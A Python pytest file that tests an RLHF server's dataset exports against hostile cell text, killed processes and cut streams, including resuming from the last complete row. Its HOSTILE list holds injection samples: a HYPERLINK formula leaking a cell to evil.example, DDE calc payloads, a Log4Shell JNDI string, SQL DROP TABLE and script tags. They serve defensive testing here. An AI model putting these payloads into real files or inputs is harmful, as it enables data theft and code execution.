"""Exports against hostile text, kills and cut connections, over a real SQLite file."""

import asyncio
import csv
import hashlib
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx
import msgspec
import pytest
from export_process import COUNT, NOW, fill
from judgements import NOW_MS, interaction, judgement, uuid7

from server.datasets.files import ExportError
from server.datasets.formats import FORMATS
from server.datasets.manifest import Manifest
from server.datasets.service import export, stream
from server.storage.sqlite_store import SqliteStore
from server.storage.store import Filter

CHILD = Path(__file__).parents[1] / "fakes/export_process.py"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1\r\n+2",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b\u2060=1+1",
    "＝1+1",
    "＠SUM(1)",
    "|calc",
    '","=1+1","',
    '"\r\n=1+1,',
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m red",
    "<script>alert(1)</script>",
    "line\u2028separator\u2029paragraph\u0085next",
    "Robert'); DROP TABLE feedback;--",
    "${jndi:ldap://evil.example/a}",
    "\U0001f469\u200d\U0001f52c e\u0301 \u202egnirts",
]
FIELDS = ["comment", "final_text", "question", "answer", "occurred_at", "item_type"]


@pytest.fixture
async def store(tmp_path):
    opened = SqliteStore(tmp_path / "store.db")
    await opened.open()
    yield opened
    await opened.aclose()


async def write_hostile(store):
    rows = []
    for index, text in enumerate(HOSTILE):
        name = f"r{index}"
        rows.append(interaction(response_id=name, question=f"{index} {text}", answer=text + "."))
        rows[-1] = msgspec.structs.replace(rows[-1], question=text + f" {index}")
        rows.append(
            judgement(
                event_id=uuid7(NOW_MS + index, index), response_id=name, action="modify",
                final_text=text + "!", comment=text, occurred_at=text, item_type=text,
                tags=(text,), metadata={text: text},
            )
        )  # fmt: skip
    await store.write(rows)


@pytest.mark.parametrize("number", range(len(HOSTILE)))
async def test_f103_no_cell_of_a_csv_begins_like_a_formula(store, number):
    await write_hostile(store)
    data = b"".join([piece async for piece in stream(store, Filter(), "csv", now=NOW)]).decode()
    rows = list(csv.DictReader(data.splitlines(keepends=True), strict=True))
    assert len(rows) == len(HOSTILE)
    for cell in rows[number].values():
        assert not re.match(r"[\s\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠|%]", cell)
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", cell)
    shown = rows[number]["comment"].removeprefix("'")
    printable = re.sub("[^\x20-\x7e]", "", HOSTILE[number])
    assert re.sub("[^\x20-\x7e]", "", shown) == printable


async def test_f103_records_of_a_csv_end_in_crlf_and_nowhere_else(store):
    await write_hostile(store)
    data = b"".join([piece async for piece in stream(store, Filter(), "csv", now=NOW)])
    assert data.count(b"\r") == data.count(b'"\r\n') == len(HOSTILE) + 1


@pytest.mark.parametrize("name", [n for n, each in FORMATS.items() if each.kind != "table"])
async def test_f103_hostile_text_comes_back_exactly_from_jsonl(store, name):
    await write_hostile(store)
    data = b"".join([piece async for piece in stream(store, Filter(), name, now=NOW)])
    lines = data.decode().splitlines()
    assert len(lines) == len(HOSTILE)
    for line, text in zip(lines, HOSTILE, strict=True):
        found = msgspec.json.encode(json.loads(line)).decode()
        assert msgspec.json.encode(text + "!").decode() in found
        if FORMATS[name].kind == "pairs":
            assert msgspec.json.encode(text + ".").decode() in found


def run_child(*arguments):
    return subprocess.Popen(
        [sys.executable, CHILD, *map(str, arguments)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        cwd=Path(__file__).parents[2],
    )


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    """A store with `COUNT` judgements, one file that the tests only read."""
    path = tmp_path_factory.mktemp("filled") / "store.db"

    async def make():
        store = SqliteStore(path)
        await store.open()
        await fill(store)
        await store.aclose()

    asyncio.run(make())
    return path


@pytest.mark.parametrize("stop_at", [1, 3, "last", "written"])
async def test_f111_an_export_killed_at_any_point_leaves_nothing_visible(filled, tmp_path, stop_at):
    child = run_child("export", filled, tmp_path / "out", stop_at)
    assert child.stdout.readline() == b"stopped\n"
    os.kill(child.pid, signal.SIGKILL)
    child.communicate()
    assert not (tmp_path / "out").exists()
    assert [path.name for path in tmp_path.iterdir()] == [".out.partial"]
    store = SqliteStore(filled)
    await store.open()
    manifest = await export(
        store, Filter(), "openai-chat", "80/10/10", tmp_path / "out", now=NOW, version="1"
    )
    await store.aclose()
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    assert manifest.lineage.judgements == COUNT
    assert manifest.lines == COUNT
    total = sum(
        len((tmp_path / "out" / entry.name).read_bytes().splitlines()) for entry in manifest.files
    )
    assert total == COUNT
    kept = msgspec.json.decode((tmp_path / "out/manifest.json").read_bytes(), type=Manifest)
    assert kept == manifest


async def read_and_kill(url, child, got):
    """Read a response into `got`; kill its server when half a megabyte is there."""
    async with httpx.AsyncClient(timeout=30) as client, client.stream("GET", url) as response:
        async for piece in response.aiter_raw():
            got += piece
            if len(got) > 500_000 and child.poll() is None:
                os.kill(child.pid, signal.SIGKILL)
                child.wait()


async def test_f111_a_client_knows_a_cut_stream_and_goes_on_from_its_last_row(filled):
    child = run_child("serve", filled)
    url = child.stdout.readline().decode().strip()
    got = bytearray()
    with pytest.raises((httpx.RemoteProtocolError, httpx.ReadError)):
        await read_and_kill(url, child, got)
    child.communicate()
    whole_rows = bytes(got[: got.rindex(b'"\r\n') + 3])
    last = list(csv.DictReader(whole_rows.decode().splitlines(keepends=True)))[-1]["event_id"]
    store = SqliteStore(filled)
    await store.open()
    rest = stream(store, Filter(), "csv", now=NOW, after=last)
    got = whole_rows + b"".join([piece async for piece in rest])
    complete = b"".join([piece async for piece in stream(store, Filter(), "csv", now=NOW)])
    await store.aclose()
    assert 0 < len(whole_rows) < len(complete)
    assert got == complete
    assert got.count(b'"\r\n') == COUNT + 1


LINES = 1500
EXPORT = "/api/rlhf/export/training-data"


@pytest.fixture(scope="module")
def judged_store(tmp_path_factory):
    """URL of a store whose judgements make a line in every format, some of them twice."""
    path = tmp_path_factory.mktemp("judged") / "store.db"
    now = int(time.time() * 1000) - 3_600_000

    async def make():
        store = SqliteStore(path)
        await store.open()
        rows = []
        for index in range(LINES):
            text = f"{index % (LINES - 200)}. Press it. " * 60
            rows.append(
                interaction(
                    response_id=f"r{index}", question=text, answer=text + "No.", started_at=now
                )
            )
            rows.append(
                judgement(
                    event_id=uuid7(now + index, index), response_id=f"r{index}", action="modify",
                    final_text=text + "Yes.", received_at=now + index,
                )
            )  # fmt: skip
        await store.write(rows)
        await store.aclose()

    asyncio.run(make())
    return f"sqlite:///{path}"


async def read_and_kill_at(count, got, url, query, process):
    """Read an export into `got` and kill its server when so many bytes are there."""
    # Small buffers between the two: most of the rest was not sent yet.
    small = [(socket.SOL_SOCKET, socket.SO_RCVBUF, 65_536)]
    async with (
        httpx.AsyncClient(
            transport=httpx.AsyncHTTPTransport(socket_options=small), timeout=60
        ) as client,
        client.stream("GET", url, params=query) as response,
    ):
        async for piece in response.aiter_raw():
            got += piece
            if len(got) > count:
                process.kill()


async def read_half_and_kill(url, query, process):
    """Return the whole lines of the first half and the time up to which judgements count."""
    async with httpx.AsyncClient(timeout=60) as client:
        whole = await client.get(url, params=query)
    until = whole.headers["export-until"]
    got = bytearray()
    with pytest.raises((httpx.RemoteProtocolError, httpx.ReadError)):
        await read_and_kill_at(len(whole.content) // 2, got, url, query | {"until": until}, process)
    return bytes(got[: got.rindex(b"\n") + 1]), until


@pytest.mark.parametrize("name", [n for n, each in FORMATS.items() if each.kind != "table"])
async def test_f111_lines_of_every_format_go_on_at_another_server(server, judged_store, name):
    first = server(None, "--store", judged_store)
    query = {"format": name}
    part, until = await read_half_and_kill(f"{first.url}{EXPORT}", query, first)
    second = server(None, "--store", judged_store)
    async with httpx.AsyncClient(base_url=second.url, timeout=60) as client:
        whole = (await client.get(EXPORT, params=query | {"until": until})).content
        last = hashlib.sha256(part.splitlines()[-1]).hexdigest()
        resumed = query | {"until": until, "starting_after": last}
        rest = await client.get(EXPORT, params=resumed)
        assert 0 < len(part) < len(whole)
        assert part + rest.content == whole
        assert rest.headers["export-until"] == until
        assert len(whole.splitlines()) == len(set(whole.splitlines())) == LINES - 200
        end = hashlib.sha256(whole.splitlines()[-1]).hexdigest()
        nothing = await client.get(EXPORT, params=resumed | {"starting_after": end})
        assert nothing.content == b""
        unknown = await client.get(EXPORT, params=resumed | {"starting_after": "0" * 64})
        assert unknown.json()["error"]["param"] == "starting_after"
    second.kill()


async def test_f111_what_is_judged_meanwhile_is_not_in_what_is_resumed(store):
    rows = [
        [
            interaction(response_id=f"r{index}", question=f"{index}?", answer="Yes."),
            judgement(
                event_id=uuid7(NOW_MS + index % 7, index),
                response_id=f"r{index}",
                received_at=NOW_MS + index,
            ),
        ]
        for index in range(40)
    ]
    await store.write([row for pair in rows[:20] for row in pair])
    closed = NOW_MS + 20
    before = [line async for line in stream(store, Filter(), "gemini", now=closed)]
    whole = b"".join(before)
    await store.write([row for pair in rows[20:] for row in pair])
    cut = whole.splitlines(keepends=True)[:8]
    last = hashlib.sha256(cut[-1].rstrip(b"\n")).hexdigest()
    where = Filter(until=closed)
    rest = stream(store, where, "gemini", now=closed + 60_000, starting_after=last)
    assert b"".join([*cut, *[piece async for piece in rest]]) == whole
    assert rest.until == closed
    with pytest.raises(ExportError, match="last complete row"):
        stream(store, where, "csv", now=closed, starting_after=last)
